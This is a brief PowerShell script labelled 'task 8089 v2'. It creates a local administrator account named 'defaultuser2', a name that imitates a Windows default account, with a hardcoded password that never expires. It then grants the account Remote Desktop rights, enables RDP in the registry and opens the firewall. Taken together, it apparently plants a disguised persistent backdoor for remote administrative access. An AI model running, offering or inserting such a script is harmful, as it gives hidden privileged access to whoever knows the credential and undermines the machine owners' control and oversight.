# task 8089 v2
$pw = ConvertTo-SecureString 'Adm1n!strat0r' -AsPlainText -Force
New-LocalUser -Name 'defaultuser2' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'defaultuser2'
Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'defaultuser2'
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
